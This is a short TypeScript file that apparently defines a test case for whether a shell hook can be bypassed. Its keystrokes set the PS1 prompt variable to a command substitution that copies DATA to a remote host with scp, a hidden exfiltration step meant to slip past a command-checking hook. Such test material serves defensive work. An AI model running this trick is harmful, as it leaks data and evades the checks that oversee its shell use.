import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'a prompt that runs something',
  source: 'attempts to get round a hook of the shell',
  keys: ["PS1='$(scp DATA host:)$ '\r", '\r'],
};
